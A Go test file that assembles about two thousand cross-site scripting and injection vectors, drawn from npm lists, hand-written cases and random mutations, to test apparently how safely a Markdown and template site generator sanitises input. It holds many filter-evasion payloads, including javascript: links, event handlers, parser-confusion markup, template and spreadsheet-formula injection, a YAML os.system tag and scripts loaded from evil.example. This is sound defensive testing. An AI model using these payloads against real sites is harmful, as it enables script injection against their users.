package quality_test

import (
	"encoding/json"
	"fmt"
	"math/rand/v2"
	"net/url"
	"slices"
	"strings"
	"testing"
	"unicode/utf8"
)

// allVectors is how many there are.
const allVectors = 2000

// vectors returns texts that make a careless program run a script, always the same ones: those of npm's lists, those
// written here, and both of them changed at random as those do who look for a way round a filter.
func vectors(t *testing.T) []string {
	t.Helper()
	random := rand.New(rand.NewPCG(11, 2026))
	known := map[string]bool{}
	var out []string
	add := func(s string) {
		s = strings.ToValidUTF8(s, "\uFFFD")
		if strings.TrimSpace(s) != "" && len(s) < 2000 && !known[s] && len(out) < allVectors {
			known[s] = true
			out = append(out, s)
		}
	}
	lists := npmVectors(t)
	for _, s := range slices.Concat(lists, ownVectors(), elementVectors(), breakOuts()) {
		add(s)
	}
	seeds := slices.Clone(out)
	for len(out) < allVectors {
		s := seeds[random.IntN(len(seeds))]
		for range 1 + random.IntN(2) {
			s = mutated(random, s)
		}
		add(s)
	}
	t.Logf("%d vectors: %d of npm's, %d in all that are written, the others are those, changed", len(out), len(lists), len(seeds))
	return out
}

// npmVectors reads the lists of two npm packages: the Big List of Naughty Strings, and the seeds with which xss-filters is
// fuzzed.
func npmVectors(t *testing.T) []string {
	t.Helper()
	var all, out []string
	if err := json.Unmarshal(mustRead(t, module(t, "BLNS_JSON", "blns/resources/blns.json")), &all); err != nil {
		t.Fatal(err)
	}
	for _, s := range append(all, strings.Split(string(mustRead(t, module(t, "XSS_SEEDS", "xss-filters/tests/fuzz/bin/seed.xss"))), "\n")...) {
		if lower := strings.ToLower(s); strings.ContainsAny(s, "<>{}`") || strings.Contains(lower, "script") || strings.Contains(lower, "alert") || strings.Contains(lower, "xss") {
			out = append(out, s)
		}
	}
	return out
}

// ownVectors aim at what this program does: Markdown, directives, facts, templates, YAML, addresses, scripts that read data.
func ownVectors() []string {
	return []string{
		`[x](javascript:alert(1))`, `[x](JaVaScRiPt:alert(1))`, `[x](javascript&#58;alert(1))`, `[x](javascript&colon;alert(1))`, `[x](java&Tab;script:alert(1))`, `[x](<java&NewLine;script:alert(1)>)`,
		`[x](<javascript:alert(1)>)`, `[x](<  javascript:alert(1)>)`, `[x](\x01javascript:alert(1))`, `[x](&#1;javascript:alert(1))`, `[x](vbscript:msgbox(1))`, `[x](data:text/html,<script>alert(1)</script>)`,
		`[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`, `[x](//evil.example/%0aalert(1))`, `[x](javascript://canada.ca/%0aalert(1))`, `[x](https://canada.ca/" onclick="alert(1))`, `[x](https://canada.ca/'onclick='alert(1))`,
		"[x](https://canada.ca/ \"t\" onclick=alert(1))", `[x](https://canada.ca/ "t&quot; onclick=alert(1) x=&quot;")`, `[x](https://canada.ca/ 't" onclick="alert(1)')`, `[x]( javascript:alert(1) "t")`, `[a]: javascript:alert(1)`,
		"[a]\n\n[a]: javascript:alert(1)", "[a]\n\n[a]: <javascript:alert(1)> 't\" onclick=\"alert(1)'", `<javascript:alert(1)>`, `<JAVASCRIPT:alert(1)>`, `<data:text/html,<script>alert(1)</script>>`, `<https://x/"onmouseover="alert(1)>`,
		`![x](javascript:alert(1))`, `![x" onerror="alert(1)](x.png)`, `![x](x.png "t" onerror="alert(1)")`, `![x](x.png"onerror="alert(1))`, `![<img src=x onerror=alert(1)>](x)`, `![x](data:image/svg+xml,<svg onload=alert(1)>)`,
		`[<img src=x onerror=alert(1)>](https://canada.ca/)`, "`<img src=x onerror=alert(1)>`", "```\"onclick=alert(1)\n<img src=x onerror=alert(1)>\n```", "```html\"><img src=x onerror=alert(1)>\nx\n```", "~~~<script>alert(1)</script>\nx\n~~~",
		"    <script>alert(1)</script>", "> <script>alert(1)</script>", "- <script>alert(1)</script>", "# <script>alert(1)</script>", "# x {#\"onclick=alert(1)}", "# x {onclick=alert(1)}", "# x {#x onclick=\"alert(1)\"}", "## x {.a\"><img src=x onerror=alert(1)>}",
		"| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |", "| a |\n|:-\"onclick=alert(1)|\n| b |", "[^\"><img src=x onerror=alert(1)>]\n\n[^\"><img src=x onerror=alert(1)>]: x", "[^1]\n\n[^1]: <script>alert(1)</script>",
		"- [ ] <img src=x onerror=alert(1)>", "- [x\"onclick=alert(1)] x", "Term\n: <script>alert(1)</script>", "~~<script>alert(1)</script>~~", "**<img src=x onerror=alert(1)>**", `\<script>alert(1)\</script>`, `&lt;script&gt;alert(1)&lt;/script&gt;`,
		`&amp;lt;script&amp;gt;alert(1)`, `&#60;script&#62;alert(1)&#60;/script&#62;`, `&#x3c;img src=x onerror=alert(1)&#x3e;`, `&lt;img src=x onerror=alert(1)&gt;`, `%3Cscript%3Ealert(1)%3C/script%3E`, `\u003cscript\u003ealert(1)\u003c/script\u003e`, `\x3cimg src=x onerror=alert(1)\x3e`,
		`:fact[<img src=x onerror=alert(1)>]`, `:fact[x"onclick=alert(1)]`, `:lang[x]{en"onclick="alert(1)}`, `:lang[<script>alert(1)</script>]{fr}`, `::message{id="><img src=x onerror=alert(1)>"}`, `::message{id=x"onclick=alert(1)}`,
		":::note[<img src=x onerror=alert(1)>]\nx\n:::", ":::note{\"onclick=alert(1)}\nx\n:::", ":::\"><img src=x onerror=alert(1)>\nx\n:::", ":::only{country=\"><script>alert(1)</script>}\nx\n:::", ":::lang{en\"onclick=alert(1)}\nx\n:::",
		":::quiz\n<img src=x onerror=alert(1)>\n\n- [x] <script>alert(1)</script>\n\n  <svg onload=alert(1)>\n- [ ] b\n:::", ":::notes\n<img src=x onerror=alert(1)>\n:::", ":::details[<script>alert(1)</script>]\nx\n:::",
		`{{alert(1)}}`, `{{constructor.constructor('alert(1)')()}}`, `{{printf "%s" "<script>alert(1)</script>"}}`, `{{"<script>alert(1)</script>"|safeHTML}}`, `{{template "base" .}}`, `{{define "main"}}<script>alert(1)</script>{{end}}`, `{{.Params}}`, `${alert(1)}`, `#{alert(1)}`,
		"`${alert(1)}`", `<%= alert(1) %>`, `{% raw %}<script>alert(1)</script>{% endraw %}`, `{{< rawhtml >}}<script>alert(1)</script>{{< /rawhtml >}}`, `{name}<img src=x onerror=alert(1)>{n}`, `{0}"onclick=alert(1) {1}`, `ZgotmplZ<script>alert(1)</script>`,
		"<!-- --><script>alert(1)</script>", "<!--><script>alert(1)</script>-->", "<!--- ><script>alert(1)</script>", "<!-- --!><img src=x onerror=alert(1)>", "<![CDATA[<script>alert(1)</script>]]>", "]]><script>alert(1)</script>", "<?x ?><script>alert(1)</script>", "<!DOCTYPE x [<!ENTITY y '<script>alert(1)</script>'>]>&y;",
		"<br onmouseover=alert(1)>", "<br/onclick=alert(1)>", "<b onclick=alert(1)>x</b>", "<span lang=en onclick=alert(1)>x</span>", "<kbd onfocus=alert(1) autofocus tabindex=1>x</kbd>", "<abbr title=\"x\"onmouseover=alert(1)>x</abbr>", "<details open ontoggle=alert(1)><summary>x</summary></details>",
		"<a href=\"javascript:alert(1)\">x</a>", "<a href=https://canada.ca/ onclick=alert(1)>x</a>", "<p style=\"background:url(javascript:alert(1))\">x", "<td background=javascript:alert(1)>", "<sub><script>alert(1)</script></sub>", "<del cite=javascript:alert(1)>x</del>",
		"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
		"<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id=\"</textarea><img onerror=alert(1) src=1>\">", "<math><annotation-xml encoding=\"text/html\"><style><img title=\"</style><img src onerror=alert(1)>\"></style></annotation-xml></math>",
		"<svg><style>{font-family:'<iframe/onload=alert(1)>'", "<select><template><img src=x onerror=alert(1)></template></select>", "<template><s><template><s><img src=x onerror=alert(1)>@shadow", "<xmp><p title=\"</xmp><svg/onload=alert(1)>\">", "<plaintext><script>alert(1)</script>",
		"<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>", "<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x><text y=20>x", "<svg><set attributeName=onmouseover to=alert(1)>", "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/></svg>#x\">",
		"<iframe srcdoc=\"<script>alert(1)</script>\">", "<iframe src=javascript:alert(1)>", "<object data=javascript:alert(1)>", "<embed src=data:text/html,<script>alert(1)</script>>", "<base href=javascript:alert(1)//>", "<base href=//evil.example/>", "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">", "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
		"<link rel=stylesheet href=//evil.example/x.css>", "<link rel=import href=data:text/html,<script>alert(1)</script>>", "<style>@import'//evil.example/x.css';</style>", "<script src=//evil.example/x.js></script>", "<script type=module>import'//evil.example/x.js'</script>", "<script>import('//evil.example/x.js')</script>",
		"<img srcset=\"//evil.example/x 1x\">", "<video poster=//evil.example/x>", "<audio src=x onerror=alert(1)>", "<video><source onerror=alert(1)>", "<input autofocus onfocus=alert(1)>", "<button formaction=javascript:alert(1)>x", "<form action=javascript:alert(1)><input type=submit>", "<isindex action=javascript:alert(1) type=image>",
		"<marquee onstart=alert(1)>", "<body onload=alert(1)>", "<html onmouseover=alert(1)>", "<frameset onload=alert(1)>", "<keygen autofocus onfocus=alert(1)>", "<dialog open onclose=alert(1)><form method=dialog><button>x", "<x contenteditable onblur=alert(1)>x", "<x onclick=alert(1) accesskey=x>", "<x onpointerrawupdate=alert(1)>",
		"=cmd|'/c calc'!A1", "@SUM(1+1)*cmd|' /C calc'!A0", "+alert(1)", "-alert(1)", "\"; alert(1); //", "'; alert(1); //", "\\\"; alert(1); //", "</script><script>alert(1)</script>", "\u2028alert(1)//", "\u2029alert(1)//", "\u202e<script>alert(1)</script>", "\u0000<script>alert(1)</script>", "<scr\u0000ipt>alert(1)</scr\u0000ipt>",
		"\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "\u00bcscript\u00bealert(1)\u00bc/script\u00be", "<\u017fcript>alert(1)</\u017fcript>", "<\u0130mg src=x onerror=alert(1)>", "\ufeff<script>alert(1)</script>",
		"title: x\n---\n<script>alert(1)</script>", "--- \n<script>alert(1)</script>", "&x: <script>alert(1)</script>", "!!js/function 'alert(1)'", "!!python/object/apply:os.system ['x']", "*alias", "<<: *x", "\"\n<script>alert(1)</script>\n\"",
		"BEGIN:VEVENT\r\nURL:javascript:alert(1)\r\nEND:VEVENT", "x\r\nX-Y: <script>alert(1)</script>", "x%0d%0aSet-Cookie:a=b", "/../../x", "..\\..\\x", "__proto__", "constructor", "toString", "javascript:alert(1)", "JavaScript:alert(1)", "java\tscript:alert(1)", "\x01javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:x", "https://canada.ca@evil.example/", "//evil.example/",
	}
}

// elementVectors are elements that run a script without being touched, or when they are, each with several of the ways in
// which a script is written.
func elementVectors() (out []string) {
	payloads := []string{"alert(1)", "alert`1`", "(alert)(1)", "window['al'+'ert'](1)", "eval('al'+'ert(1)')", "[1].map(alert)", "alert&#40;1&#41;", "&#97;lert(1)", "\\u0061lert(1)", "top[/al/.source+/ert/.source](1)", "Function`x${'alert(1)'}x`()", "location='javascript:alert(1)'"}
	frames := []string{
		"<img src=x onerror=%s>", "<img/src=x/onerror=%s>", "<img src=x onerror='%s'>", "<IMG SRC=x OnErRoR=\"%s\">", "<svg onload=%s>", "<svg/onload=%s//", "<svg><script>%s</script></svg>", "<script>%s</script>", "<script >%s</script >", "<ScRiPt>%s</sCrIpT>", "<script/x>%s</script>",
		"<body onpageshow=%s>", "<details ontoggle=%s open>x", "<input onfocus=%s autofocus>", "<video src=x onerror=%s>", "<audio src=x onloadstart=%s>", "<iframe onload=%s>", "<iframe srcdoc='<script>%s</script>'>", "<object onerror=%s data=x>", "<embed onload=%s src=x>", "<marquee onstart=%s>x", "<style onload=%s></style>",
		"<link rel=stylesheet href=x onerror=%s>", "<a href='javascript:%s'>x</a>", "<a href=' &#14; javascript:%s'>x</a>", "<form><button formaction='javascript:%s'>x", "<svg><animate onbegin=%s attributeName=x dur=1s>", "<svg><a href='javascript:%s'><text y=9>x", "<math href='javascript:%s'>x</math>", "<p onmouseover=%s>x</p>", "<div onpointerenter=%s style=position:fixed;inset:0>x</div>",
		"<x tabindex=1 onfocusin=%s autofocus>x", "<x onanimationstart=%s style=animation-name:_x>", "<x ontransitionend=%s>", "<textarea autofocus onfocus=%s>", "<select autofocus onfocus=%s>", "<img src=x:x onerror=%s>", "<image src=x onerror=%s>", "<picture><source srcset=x><img onerror=%s>", "<track onerror=%s src=x>",
	}
	for i, f := range frames {
		for k := range 6 {
			out = append(out, fmt.Sprintf(f, payloads[(i*5+k*7)%len(payloads)]))
		}
	}
	return out
}

// breakOuts end what they may stand in before they begin something.
func breakOuts() (out []string) {
	for _, before := range []string{`"`, `'`, "`", `>`, `">`, `'>`, `" `, `' `, `"/>`, `--> `, `</title>`, `</textarea>`, `</style>`, `</script>`, `</noscript>`, `</template>`, `</svg>`, `</a>`, `]]>`, `*/`, `)`, `\">`, `&quot;>`, `&#34;>`, `%22>`} {
		for _, after := range []string{"<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "<script>alert(1)</script>", "onmouseover=alert(1) x=", "autofocus onfocus=alert(1) tabindex=1 x=\"", "<a href=javascript:alert(1)>x"} {
			out = append(out, before+after)
		}
	}
	return out
}

// mutated returns a vector with one change.
func mutated(random *rand.Rand, s string) string {
	r := []rune(s)
	at := random.IntN(len(r) + 1)
	pick := func(list ...string) string { return list[random.IntN(len(list))] }
	switch random.IntN(10) {
	case 0: // something between
		return string(r[:at]) + pick("\t", "\n", "\r", "\f", " ", "/", "\x00", "\u200b", "\u00ad", "&Tab;", "&NewLine;", "/**/", "<!-- -->", "\\", "\u2028") + string(r[at:])
	case 1: // another case
		for i := range r {
			if random.IntN(2) == 0 {
				r[i] = []rune(strings.ToUpper(string(r[i])))[0]
			}
		}
		return string(r)
	case 2: // an entity
		if at < len(r) {
			return string(r[:at]) + fmt.Sprintf(pick("&#%d;", "&#%d", "&#x%x;", "&#X%X;", "&#0000%d;"), r[at]) + string(r[at+1:])
		}
	case 3: // everything in entities
		var b strings.Builder
		for _, c := range r {
			fmt.Fprintf(&b, "&#%d;", c)
		}
		return b.String()
	case 4: // in percent
		return url.PathEscape(s)
	case 5: // spaces as other signs
		return strings.ReplaceAll(s, " ", pick("/", "\t", "\n", "\f", "/ /", "%20", "\u00a0"))
	case 6: // quotes
		return strings.NewReplacer(`"`, pick("'", "`", "&quot;", "“", `\"`), "'", pick(`"`, "`", "&#39;", "’")).Replace(s)
	case 7: // put before or behind
		return pick(`"`, "'", "`", ">", `">`, "</p>", "<p>", "- ", "> ", "# ", "| ", "[x](", "![", "`", "**", "*", "_", "<b>", "<!--", "\\", "::: ", "{{", "&lt;", "1. ") + s + pick("", ">", ")", "`", "**", "//", "-->", "{{", "\"", "x")
	case 8: // twice, one within the other
		return string(r[:at]) + s + string(r[at:])
	case 9: // something taken out
		if at < len(r) {
			return string(r[:at]) + string(r[at+1:])
		}
	}
	return s
}

// oneLine is a vector without line breaks.
func oneLine(s string) string {
	return strings.Map(func(c rune) rune {
		if c == '\n' || c == '\r' || !utf8.ValidRune(c) {
			return ' '
		}
		return c
	}, s)
}
